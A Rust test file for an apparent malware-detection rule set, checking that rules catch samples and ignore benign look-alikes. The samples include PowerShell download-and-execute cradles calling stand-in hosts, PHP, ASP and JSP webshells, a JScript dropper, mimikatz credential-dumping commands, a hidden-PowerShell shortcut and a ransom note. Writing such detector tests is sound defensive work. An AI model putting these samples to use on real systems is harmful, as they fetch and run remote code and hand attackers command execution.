//! The rules that ship find what they are for, and nothing beside it.

use super::scan;
use crate::{Rules, builtin};
use watchfire_model::MetadataValue;

fn check(bytes: &[u8], expected: &[&str]) {
    let (rules, problems) = Rules::compile(&builtin());
    assert!(problems.is_empty(), "{problems:?}");
    let outcome = scan(&rules.unwrap(), bytes);
    let names: Vec<_> = outcome
        .matches
        .iter()
        .map(|found| found.rule.raw().trim_start_matches("Watchfire_"))
        .collect();
    assert_eq!(names, expected, "{}", String::from_utf8_lossy(bytes));
}

#[test]
fn every_rule_says_what_it_is_and_how_sure() {
    let (rules, _) = Rules::compile(&builtin());
    assert_eq!(rules.unwrap().count(), 9);
    for source in builtin() {
        let rules = source.text.matches("\nrule ").count();
        for key in ["author", "description", "score", "mitre"] {
            assert_eq!(
                source.text.matches(&format!(" {key} = ")).count(),
                rules,
                "{key} in {}",
                source.name
            );
        }
    }
}

#[test]
fn powershell_that_runs_what_it_downloads() {
    check(
        b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
        &["PowerShell_Cradle"],
    );
    check(
        b"(New-Object System.Net.WebClient).DownloadString('http://x.example/a') | IEX",
        &["PowerShell_Cradle"],
    );
    check(
        b"iwr http://x.example/a.ps1 -UseBasicParsing | iex",
        &["PowerShell_Cradle"],
    );
    // $c = New-Object Net.WebClient, in UTF-16 and Base64.
    check(b"powershell -nop -w hidden -enc JABjACAAPQAgAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0AA==", &["PowerShell_Cradle"]);
    check(
        b"iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        &[],
    );
    check(
        b"Use Invoke-WebRequest to download a file with PowerShell, or New-Object Net.WebClient.",
        &[],
    );
}

#[test]
fn scripts_that_drop_and_pages_that_serve() {
    check(
        b"var x = new ActiveXObject('MSXML2.XMLHTTP'); var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile(p); new ActiveXObject('WScript.Shell').Run(p);",
        &["Script_Dropper"],
    );
    check(b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '/');", &[]);
    check(b"<?php @eval($_POST['c']); ?>", &["Webshell"]);
    check(b"<?php eval(base64_decode($_REQUEST[\"x\"]));", &["Webshell"]);
    check(
        b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"a\"],\"unsafe\");%>",
        &["Webshell"],
    );
    check(
        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        &["Webshell"],
    );
    check(b"<?php echo htmlspecialchars($_POST['name']); system('ls'); ?>", &[]);
}

#[test]
fn programs_and_shortcuts() {
    let hidden: Vec<u8> = [0, 1, 0, 1, 0, 2, 0, 8, 0, 2, 0, 1, 0, 2, 1, 0xbb, 0, 3, 0, 2, 0, 4]
        .map(|byte| byte ^ 0x2e)
        .into();
    check(&[vec![7; 100], hidden].concat(), &["Beacon_Configuration"]);
    check(
        b"MZ sekurlsa::logonpasswords lsadump::sam gentilkiwi",
        &["Credential_Dumper"],
    );
    check(
        b"The report names sekurlsa::logonpasswords, lsadump::sam and gentilkiwi.",
        &[],
    );
    check(b"MZ .... AU3!EA06 ....", &["AutoIt_Program"]);
    let shortcut = |command: &str| [b"\x4c\0\0\0\x01\x14\x02\0".as_slice(), &[0; 60], command.as_bytes()].concat();
    check(
        &shortcut("powershell.exe -w hidden -c calc"),
        &["Shortcut_Runs_Interpreter"],
    );
    check(&shortcut("C:\\Program Files\\Editor\\editor.exe"), &[]);
    let program = b"$p = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA'";
    check(program, &["Program_In_Text"]);
    check(
        &[b"Content-Transfer-Encoding: base64\n\n".as_slice(), program].concat(),
        &[],
    );
}

#[test]
fn notes_of_extortionists() {
    check(
        b"All of your files have been encrypted!\nTo get the decryption tool, download Tor Browser and visit http://abc.onion\nDo not rename encrypted files. You can decrypt one file for free.\nPay in Bitcoin.",
        &["Ransom_Note"],
    );
    check(
        b"Back up your files: they are encrypted on our servers. Bitcoin is not accepted.",
        &[],
    );
}

#[test]
fn scores_are_numbers() {
    let (rules, _) = Rules::compile(&builtin());
    let outcome = scan(&rules.unwrap(), b"<?php @eval($_POST['c']); ?>");
    assert_eq!(outcome.matches[0].get("score"), Some(&MetadataValue::Integer(80)));
}
